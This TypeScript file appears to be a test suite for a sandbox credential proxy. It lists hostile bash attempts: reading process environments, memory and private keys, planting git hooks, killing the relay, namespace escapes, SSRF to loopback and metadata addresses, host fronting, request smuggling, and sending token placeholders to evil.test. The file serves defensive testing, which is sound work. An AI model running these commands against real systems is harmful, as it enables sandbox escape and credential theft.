/** One thing a hostile script tries. */
export interface Attempt {
  name: string;
  /** Bash; `places` of the field are its variables. What it prints must not hold what it was after. */
  script: string;
  /** It goes through the proxy, so it must stand in the ledger, under the call that made it. */
  ledger?: 'refused' | 'failed' | 'allowed';
  /** What its output must hold, to show that it was tried at all. */
  tried?: RegExp;
  /** What its output must not hold, beside the secret and the words of what must not be reached. */
  never?: RegExp;
}

const curl = 'curl -sS --max-time 6 -i';
const auth = '-H "Authorization: Bearer $API"';
/** The proxy's address, user and token, to be used by hand. */
const byHand = `
url=\${HTTPS_PROXY#http://}; login=\${url%@*}; basic=$(printf %s "$login" | base64 -w0)
raw() { exec 3<>/dev/tcp/127.0.0.1/3128; printf "$1" >&3; timeout 4 cat <&3; exec 3>&-; }
`;
const raw = (name: string, where: string): Attempt => ({
  name,
  script: `timeout 4 bash -c 'exec 3<>/dev/tcp/${where}; printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3' 2>&1; echo tried`,
  tried: /tried/,
});
const refused = (name: string, script: string): Attempt => ({ name, script, ledger: 'refused' });

const inside: Attempt[] = [
  { name: 'env', script: 'env', tried: /API_TOKEN=drover_ph_/ },
  { name: 'the environments of all processes', script: 'cat /proc/[0-9]*/environ | tr "\\0" "\\n"', tried: /PATH=/ },
  { name: 'the command lines of all processes', script: 'cat /proc/[0-9]*/cmdline | tr "\\0" " "', tried: /relay/ },
  {
    name: 'the memory of all processes that can be read',
    script: 'for m in /proc/[0-9]*/mem; do head -c 65536 "$m" 2>/dev/null; done; echo tried',
    tried: /tried/,
  },
  {
    name: "the session's certificate authority: its key",
    script: 'grep -rlsE "PRIVATE KEY" /run /etc /tmp /home /root /workspace; ls -la /run/drover; echo tried',
    tried: /ca\.pem/,
    never: /^\/.*(key|pem)$/m,
  },
  {
    name: "the engine's socket",
    script:
      'find / -xdev -name "docker*.sock" -o -name "podman*.sock" 2>/dev/null; ls /var/run/docker.sock; curl -sS --max-time 3 --unix-socket /var/run/docker.sock http://x/containers/json; echo tried',
    never: /"Id"|^\/.*\.sock$/m,
    tried: /tried/,
  },
  {
    name: "the session's own log",
    script:
      'cat /workspace/.drover/marker; ln -sfn /workspace/.drover /tmp/way; cat /tmp/way/marker /tmp/way/*; echo tried',
    tried: /tried/,
  },
  {
    name: 'a hook that the host would run',
    script:
      'echo "touch /tmp/owned" > /workspace/.git/hooks/pre-commit && echo WRITTEN; ln -s /tmp/x /workspace/.git/hooks/post-commit && echo WRITTEN; echo tried',
    never: /WRITTEN/,
    tried: /tried/,
  },
  {
    name: "the repository's configuration, which names programs",
    script:
      'echo "[core] fsmonitor = /tmp/x" >> /workspace/.git/config && echo WRITTEN; mv /workspace/.git /workspace/.gone && echo WRITTEN; echo tried',
    never: /WRITTEN/,
    tried: /tried/,
  },
  {
    name: 'the relay: replaced, and killed',
    script:
      'cp /bin/true /run/drover/relay && echo WRITTEN; rm /run/drover/ca.pem && echo WRITTEN; for p in $(ps -C relay -o pid=); do kill -9 $p && echo WRITTEN; cat /proc/$p/environ; done; echo tried',
    never: /WRITTEN/,
    tried: /tried/,
  },
  {
    name: 'LD_PRELOAD',
    script:
      'echo /tmp/none.so > /etc/ld.so.preload; LD_PRELOAD=/tmp/none.so curl -sS --max-time 4 --noproxy "*" http://$NEIGHBOUR:8080/ 2>&1; rm -f /etc/ld.so.preload; echo tried',
    tried: /tried/,
  },
  {
    name: 'privileges, mounts and namespaces',
    script:
      'mount -t tmpfs x /mnt && echo GOT; unshare -rn true && mount --bind / /mnt && echo GOT; mknod /tmp/disk b 8 0 && cat /tmp/disk | head -c 1 && echo GOT; cat /sys/class/net/*/address; echo tried',
    never: /GOT/,
    tried: /tried/,
  },
];

const network: Attempt[] = [
  raw("a port of the host at its bridge's address", '$GATEWAY/$ON_GATEWAY'),
  raw("a port of the host at the sandbox's loopback", '127.0.0.1/$ON_LOOPBACK'),
  raw('another container', '$NEIGHBOUR/8080'),
  raw('another container, by IPv6', '$NEIGHBOUR6/8080'),
  raw('a metadata address', '$METADATA/8080'),
  {
    name: 'an allowed host, past the proxy',
    script: 'curl -sS --max-time 4 --noproxy "*" http://plain.test:$PLAIN/ 2>&1; echo tried',
    tried: /Could not resolve/,
    never: /hello/,
  },
  {
    name: 'names, by DNS',
    script:
      'time timeout 5 getent hosts evil.test; echo -n q > /dev/udp/$NEIGHBOUR/5353; echo -n q > /dev/udp/$METADATA/5353; cat /etc/resolv.conf; echo tried',
    tried: /tried/,
    never: /127\.7\.7\.7/,
  },
  {
    name: 'any interface or route at all',
    script: 'ls /sys/class/net; cat /proc/net/route; cat /proc/net/if_inet6 2>/dev/null; echo tried',
    tried: /lo/,
    never: /eth|enp|tun/,
  },
];

const LOCAL = [
  'localhost',
  '127.0.0.1',
  '[::1]',
  '0.0.0.0',
  '2130706433',
  '0x7f.1',
  '127.1',
  '[::ffff:127.0.0.1]',
  '0177.0.0.1',
];

const policy: Attempt[] = [
  refused('plain HTTP to a host that is not allowed', `${curl} http://evil.test:$PLAIN/`),
  refused('CONNECT to a host that is not allowed', `${curl} -k https://evil.test:$TLS/`),
  refused('an allowed host at a port that is not', `${curl} http://allowed.test:$OTHER/`),
  refused(
    'plain HTTP inside a CONNECT, for another host',
    `${curl} --proxytunnel -H "Host: evil.test" http://plain.test:$PLAIN/`,
  ),
  refused(
    'CONNECT to an allowed host, TLS for another',
    `${byHand} PW=\${login#*:} openssl s_client -proxy 127.0.0.1:3128 -proxy_user "\${login%%:*}" -proxy_pass env:PW -connect allowed.test:$TLS -servername evil.test </dev/null 2>&1 | head -20`,
  ),
  refused(
    'CONNECT to an allowed host, TLS that names none',
    `${byHand} PW=\${login#*:} openssl s_client -proxy 127.0.0.1:3128 -proxy_user "\${login%%:*}" -proxy_pass env:PW -connect allowed.test:$TLS -noservername </dev/null 2>&1 | head -20`,
  ),
  refused(
    'fronting: another Host over the connection of a bound host',
    `${curl} --http1.1 ${auth} -H "Host: evil.test" https://api.test:$TLS/`,
  ),
  refused(
    'fronting: another :authority in HTTP/2',
    `${curl} --http2 ${auth} -H "Host: evil.test" https://api.test:$TLS/`,
  ),
  {
    name: "fronting: the credential's host over the connection of another allowed host",
    script: `${curl} -k --http1.1 ${auth} -H "Host: api.test:$TLS" https://allowed.test:$TLS/; ${curl} -k --http2 ${auth} -H "Host: api.test:$TLS" https://allowed.test:$TLS/`,
    ledger: 'allowed',
    // It is passed on unread: what comes there is the placeholder.
    tried: /hello from api\.test:\d+: Bearer drover_ph_/,
  },
  refused(
    "the credential's URL without a tunnel, to be sent without TLS",
    `${byHand} raw "GET https://api.test:$TLS/ HTTP/1.1\\r\\nHost: api.test:$TLS\\r\\nAuthorization: Bearer $API\\r\\nProxy-Authorization: Basic $basic\\r\\nConnection: close\\r\\n\\r\\n"`,
  ),
  refused(
    "another host's URL inside the connection of a bound host",
    `${curl} --http1.1 ${auth} --request-target "https://evil.test:$TLS/" https://api.test:$TLS/`,
  ),
  refused(
    'a CONNECT inside the connection of a bound host',
    `${curl} --http1.1 -X CONNECT --request-target "evil.test:$TLS" ${auth} https://api.test:$TLS/`,
  ),
  ...LOCAL.map((host) =>
    refused(
      `the host's own ports through the proxy, as ${host}`,
      `${curl} --noproxy "" -x "$HTTP_PROXY" http://${host}:$ON_LOOPBACK/`,
    ),
  ),
  ...LOCAL.slice(0, 3).map((host) =>
    refused(
      `the host's own ports by CONNECT, as ${host}`,
      `${curl} --noproxy "" --proxytunnel -x "$HTTP_PROXY" http://${host}:$ON_LOOPBACK/`,
    ),
  ),
  refused('another container through the proxy', `${curl} http://$NEIGHBOUR:8080/`),
  refused('a metadata address through the proxy', `${curl} http://$METADATA:8080/`),
  refused('an allowed name that is a metadata address', `${curl} http://metadata.test:8080/`),
  refused('DNS rebinding: an allowed name that is loopback', `${curl} http://rebind.test:$ON_LOOPBACK/`),
  refused('an allowed name that is loopback by IPv6', `${curl} http://six.test:$ON_LOOPBACK/`),
  {
    name: 'DNS rebinding: a name that turns into loopback after the first answer',
    script: `${curl} -k https://flip.test:$TLS/; ${curl} -k https://flip.test:$TLS/`,
    ledger: 'refused',
  },
  {
    name: "the proxy's own pages",
    script: `${curl} --noproxy "*" http://127.0.0.1:3128/; ${curl} --noproxy "*" http://127.0.0.1:3128/status; ${curl} --noproxy "" -x "$HTTP_PROXY" http://127.0.0.1:3128/; ${byHand} raw "OPTIONS * HTTP/1.1\\r\\nHost: x\\r\\nProxy-Authorization: Basic $basic\\r\\n\\r\\n"`,
    ledger: 'refused',
    never: /HTTP\/1\.[01] 200/,
  },
  {
    name: 'the proxy without its token, and with a wrong one',
    script: `${curl} -x http://127.0.0.1:3128 http://plain.test:$PLAIN/; ${curl} -x http://sandbox:wrong@127.0.0.1:3128 http://plain.test:$PLAIN/; curl -sS -i --max-time 3 --unix-socket /run/drover/proxy.sock http://plain.test/`,
    tried: /407/,
    never: /hello/,
  },
  refused(
    'a websocket to a host that is not allowed',
    `${curl} -H "Upgrade: websocket" -H "Connection: Upgrade" -H "Sec-WebSocket-Version: 13" -H "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==" http://evil.test:$PLAIN/`,
  ),
  refused(
    'another protocol through a CONNECT',
    `${byHand} raw "CONNECT allowed.test:$TLS HTTP/1.1\\r\\nHost: allowed.test:$TLS\\r\\nProxy-Authorization: Basic $basic\\r\\n\\r\\n\\0\\0\\0\\1ssh"`.replace(
      '\\0\\0\\0\\1',
      '\\x00\\x00\\x01',
    ),
  ),
];

const misplaced: Attempt[] = [
  refused("another session's placeholder", `${curl} -H "Authorization: Bearer $STRANGER" https://api.test:$TLS/`),
  refused("another session's placeholder in a body", `${curl} -d "auth=$STRANGER" http://plain.test:$PLAIN/`),
  refused(
    "another session's placeholder in a message of a websocket, as bytes",
    `node -e 'const w=new WebSocket("wss://api.test:"+process.env.TLS+"/");w.onopen=()=>w.send(new TextEncoder().encode(process.env.STRANGER));w.onmessage=e=>console.log(String(e.data));w.onclose=e=>console.log("closed",e.code);setTimeout(()=>process.exit(),4000)' 2>&1`,
  ),
  refused('a placeholder in a header to another allowed host', `${curl} -H "X-Token: $API" http://plain.test:$PLAIN/`),
  refused('a placeholder as a password to another allowed host', `${curl} -u "me:$API" http://plain.test:$PLAIN/`),
  refused(
    'a placeholder in a URL to another allowed host',
    `${curl} "http://plain.test:$PLAIN/?relay=api.test&auth=$API"`,
  ),
  refused(
    'an escaped placeholder in a URL, beside what is no escape',
    `${curl} "http://plain.test:$PLAIN/?x=%&auth=dro%76er\${API#drover}"`,
  ),
  refused('a placeholder in a body to another allowed host', `${curl} -d "auth=$API" http://plain.test:$PLAIN/`),
  refused(
    'a placeholder in a large body, in pieces',
    `(head -c 300000 /dev/zero | tr "\\0" x; printf %s "$API") | ${curl} -X POST -T - http://plain.test:$PLAIN/`,
  ),
  refused("the credential's host without TLS", `${curl} ${auth} http://api.test:$PLAIN/`),
  {
    name: "the credential's host at another port",
    script: `${curl} -k ${auth} https://api.test:$OTHER/`,
    ledger: 'allowed',
  },
  ...['api.test.evil.test', 'xapi.test', 'api-test.test', 'аpi.test', 'api.test%2eevil.test', 'api.test@evil.test'].map(
    (host) => ({
      name: `a look-alike of the credential's host: ${host}`,
      script: `${curl} -k ${auth} "https://${host}:$TLS/"; echo tried`,
      tried: /tried/,
    }),
  ),
  {
    name: 'a relay over an allowed host',
    script: `${curl} -k ${auth} -H "X-Relay-To: api.test" https://allowed.test:$TLS/relay`,
    ledger: 'allowed',
  },
  refused(
    'a redirect to a host that is not allowed',
    `${curl} -L --location-trusted ${auth} "https://api.test:$TLS/redirect?to=https://evil.test:$TLS/"`,
  ),
  refused(
    'a redirect to another allowed host',
    `${curl} -L --location-trusted ${auth} "https://api.test:$TLS/redirect?to=http://plain.test:$PLAIN/"`,
  ),
];

const echo = (name: string, script: string): Attempt => ({ name, script, ledger: 'allowed', tried: /drover_ph_|200/ });

const smuggled: Attempt[] = [
  {
    name: 'header injection by line breaks in a value',
    script: `${curl} --http1.1 -H "X: a"$'\\r\\n'"Host: evil.test" http://plain.test:$PLAIN/; ${byHand} raw "GET http://plain.test:$PLAIN/ HTTP/1.1\\r\\nHost: plain.test:$PLAIN\\r\\nProxy-Authorization: Basic $basic\\r\\nX: a\\rHost: evil.test\\r\\n\\r\\n"`,
  },
  refused(
    'two Host fields',
    `${byHand} raw "GET http://plain.test:$PLAIN/ HTTP/1.1\\r\\nHost: plain.test:$PLAIN\\r\\nHost: evil.test\\r\\nProxy-Authorization: Basic $basic\\r\\nConnection: close\\r\\n\\r\\n"`,
  ),
  {
    name: 'a request hidden in the body of another',
    script: `${byHand} raw "POST http://plain.test:$PLAIN/ HTTP/1.1\\r\\nHost: plain.test:$PLAIN\\r\\nProxy-Authorization: Basic $basic\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://evil.test:$PLAIN/ HTTP/1.1\\r\\nHost: evil.test:$PLAIN\\r\\n\\r\\n"`,
  },
];

const echoes: Attempt[] = [
  echo('an echo in headers and body', `${curl} ${auth} https://api.test:$TLS/`),
  echo('an echo over HTTP/2', `${curl} --http2 ${auth} https://api.test:$TLS/`),
  echo('an echo of a login', `${curl} -u "agent:$API" https://api.test:$TLS/`),
  echo('an echo in base64, hex and URL form', `${curl} ${auth} https://api.test:$TLS/coded`),
  echo(
    'an echo that is compressed although none was asked for',
    `${curl} --compressed ${auth} https://api.test:$TLS/gzip`,
  ),
  echo('an echo in pieces of three bytes', `${curl} ${auth} https://api.test:$TLS/slowly`),
  {
    name: 'an echo asked for in parts of eight bytes',
    script: `for i in 0 8 16 24 32 40 48 56 64 72; do curl -sS --max-time 6 ${auth} -H "Range: bytes=$i-$((i+7))" https://api.test:$TLS/parts; done`,
    ledger: 'allowed',
    tried: /drover_ph_/,
  },
  echo('an echo in the words beside the status', `${curl} --http1.1 ${auth} https://api.test:$TLS/beside`),
  echo('an echo in the last fields of an answer', `${curl} --http2 ${auth} https://api.test:$TLS/last`),
  echo('an echo in the middle of a megabyte', `${curl} ${auth} https://api.test:$TLS/large | tr -d xy`),
  echo(
    'an echo in the address of a redirect',
    `${curl} ${auth} "https://api.test:$TLS/redirect?to=https://api.test:$TLS/"`,
  ),
  echo(
    'an echo of a body',
    `${curl} -H "content-type: application/json" -d "{\\"t\\":\\"$BODY_TOKEN\\"}" https://body.test:$TLS/`,
  ),
  echo(
    'an echo in a websocket',
    `node -e 'const w=new WebSocket("wss://api.test:"+process.env.TLS+"/",{headers:{authorization:"Bearer "+process.env.API}});w.onmessage=e=>{console.log("200",String(e.data));w.close()};w.onerror=e=>console.log("error",e.message);setTimeout(()=>process.exit(),4000)' 2>&1; ${curl} ${auth} https://api.test:$TLS/`,
  ),
];

export const ATTEMPTS: readonly Attempt[] = [...inside, ...network, ...policy, ...misplaced, ...smuggled, ...echoes];
